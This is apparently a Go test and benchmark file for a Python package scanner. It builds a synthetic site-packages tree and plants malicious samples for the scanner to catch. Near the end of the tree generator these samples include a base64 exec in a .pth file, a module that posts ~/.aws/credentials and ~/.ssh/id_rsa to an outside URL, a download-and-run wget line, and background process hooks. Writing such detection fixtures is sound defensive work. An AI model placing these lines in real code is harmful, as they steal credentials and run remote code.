package pkgscan

import (
	"context"
	"fmt"
	"math/rand"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"github.com/assay-dev/assay/internal/core"
	"github.com/assay-dev/assay/internal/engine"
)

// genSiteTree writes a synthetic site-packages tree: at scale 1.0 about
// 50,000 files and 1 GB — ~31,000 Python modules of realistic sizes (1–60
// KB; ~4% touch subprocess/exec/base64 inside functions as real libraries
// do), ~1,400 native extensions (random bytes behind an ELF header, 30–730 KB), stubs, metadata and data files, plus 8 malicious candidates. It
// returns the number of files and bytes written.
func genSiteTree(dir string, scale float64) (int, int64, error) {
	r := rand.New(rand.NewSource(1))
	var files int
	var total int64
	write := func(p string, b []byte) error {
		full := filepath.Join(dir, p)
		if err := os.MkdirAll(filepath.Dir(full), 0o755); err != nil {
			return err
		}
		files++
		total += int64(len(b))
		return os.WriteFile(full, b, 0o644)
	}
	nPkgs := int(400 * scale)
	if nPkgs < 2 {
		nPkgs = 2
	}
	words := strings.Fields("model token config request client session tensor batch layer cache path value index shape device weight logger handler result")
	for p := 0; p < nPkgs; p++ {
		pkg := fmt.Sprintf("pkg%03d", p)
		write(fmt.Sprintf("%s-1.%d.0.dist-info/METADATA", pkg, p), []byte("Metadata-Version: 2.1\nName: "+pkg+"\nVersion: 1.0\n\n"))
		write(fmt.Sprintf("%s-1.%d.0.dist-info/RECORD", pkg, p), []byte(pkg+"/__init__.py,,\n"))
		for m := 0; m < 78; m++ {
			var b strings.Builder
			b.WriteString("\"\"\"Module " + pkg + " " + strconv.Itoa(m) + ".\"\"\"\nimport os\nimport logging\nfrom typing import Any, Optional\n\nlog = logging.getLogger(__name__)\n\n")
			size := 1000 + r.Intn(30000)
			if r.Intn(10) == 0 {
				size += 30000
			}
			special := r.Intn(25) == 0
			if special {
				switch r.Intn(3) {
				case 0:
					b.WriteString("import subprocess\n\ndef _git_version(root):\n    return subprocess.check_output(['git', 'describe'], cwd=root).decode()\n\n")
				case 1:
					b.WriteString("def _make(src, ns):\n    exec(src, ns)\n    return ns\n\n")
				case 2:
					b.WriteString("import base64\n\ndef decode_token(t):\n    return base64.b64decode(t)\n\n")
				}
			}
			for i := 0; b.Len() < size; i++ {
				w1, w2 := words[r.Intn(len(words))], words[r.Intn(len(words))]
				fmt.Fprintf(&b, "class %s%s%d:\n    \"\"\"Holds the %s for a %s.\"\"\"\n\n    def __init__(self, %s: Optional[Any] = None, **kwargs):\n        self.%s = %s\n        self._opts = dict(kwargs)\n\n    def get_%s(self, key: str, default=None):\n        if key not in self._opts:\n            log.debug(\"missing %%s\", key)\n            return default\n        return self._opts[key]\n\n\n", strings.Title(w1), strings.Title(w2), i, w1, w2, w1, w1, w1, w2)
			}
			write(fmt.Sprintf("%s/mod_%02d.py", pkg, m), []byte(b.String()))
			if m%3 == 0 {
				write(fmt.Sprintf("%s/mod_%02d.pyi", pkg, m), []byte("def f(x: int) -> int: ...\n"))
			}
		}
		write(pkg+"/__init__.py", []byte("from .mod_00 import *\n__version__ = '1.0'\n"))
		for s := 0; s < 3; s++ {
			so := make([]byte, 30000+r.Intn(700000))
			r.Read(so)
			copy(so, "\x7fELF\x02\x01\x01")
			write(fmt.Sprintf("%s/_ext%d.cpython-312-x86_64-linux-gnu.so", pkg, s), so)
		}
		for d := 0; d < 8; d++ {
			write(fmt.Sprintf("%s/data/table%d.json", pkg, d), []byte(strings.Repeat("{\"k\": 1, \"v\": [1,2,3]},\n", 40+r.Intn(400))))
		}
		write(pkg+"/py.typed", nil)
	}
	// malicious candidates the run must find
	write("evil_init.pth", []byte("import os, base64; exec(base64.b64decode('cHJpbnQoMSk='))\n"))
	write("pkg000/_telemetry.py", []byte("import os, requests\nrequests.post('https://models.litellm.cloud/', data=open(os.path.expanduser('~/.aws/credentials')).read() + open(os.path.expanduser('~/.ssh/id_rsa')).read())\n"))
	write("pkg001/__init__.py", []byte("import os\nos.system('wget -q http://x.example.net/r -O /tmp/r && chmod +x /tmp/r && /tmp/r')\n"))
	for i := 0; i < 5; i++ {
		write(fmt.Sprintf("pkg%03d/_hook%d.py", i%nPkgs, i), []byte("import subprocess\nsubprocess.Popen('nohup /tmp/.x >/dev/null 2>&1 &', shell=True)\n"))
	}
	return files, total, nil
}

// TestGenBenchTree writes the full-size tree for bench/pkgscan.sh:
// ASSAY_BENCH_OUT=/tmp/site go test -run TestGenBenchTree ./internal/pkgscan
func TestGenBenchTree(t *testing.T) {
	out := os.Getenv("ASSAY_BENCH_OUT")
	if out == "" {
		t.Skip("set ASSAY_BENCH_OUT to generate the benchmark tree")
	}
	scale := 1.0
	if s := os.Getenv("ASSAY_BENCH_SCALE"); s != "" {
		scale, _ = strconv.ParseFloat(s, 64)
	}
	n, b, err := genSiteTree(out, scale)
	if err != nil {
		t.Fatal(err)
	}
	t.Logf("wrote %d files, %d MB to %s", n, b>>20, out)
}

// BenchmarkInspectSiteTree inspects a synthetic tree (scale from
// ASSAY_BENCH_SCALE, default 0.05 ≈ 2,500 files / 50 MB to keep `go test
// -bench` quick; bench/pkgscan.sh runs the full 1 GB tree).
func BenchmarkInspectSiteTree(b *testing.B) {
	scale := 0.05
	if s := os.Getenv("ASSAY_BENCH_SCALE"); s != "" {
		scale, _ = strconv.ParseFloat(s, 64)
	}
	dir := os.Getenv("ASSAY_BENCH_TREE") // an existing tree (bench/pkgscan.sh)
	var total int64
	if dir == "" {
		dir = b.TempDir()
		var err error
		if _, total, err = genSiteTree(dir, scale); err != nil {
			b.Fatal(err)
		}
	} else {
		filepath.Walk(dir, func(_ string, fi os.FileInfo, err error) error {
			if err == nil && fi.Mode().IsRegular() {
				total += fi.Size()
			}
			return nil
		})
	}
	b.SetBytes(total)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		rep, err := engine.Run(context.Background(), engine.Config{Target: dir,
			Scanners:  []core.Scanner{NewScanner(Options{InspectAll: true})},
			Analyzers: []core.Analyzer{&CapabilityAnalyzer{InspectAll: true}}})
		if err != nil {
			b.Fatal(err)
		}
		crit := 0
		for _, f := range rep.Findings {
			if f.Severity == core.SeverityCritical {
				crit++
			}
		}
		if crit < 3 {
			b.Fatalf("planted candidates not found: %d critical", crit)
		}
	}
}
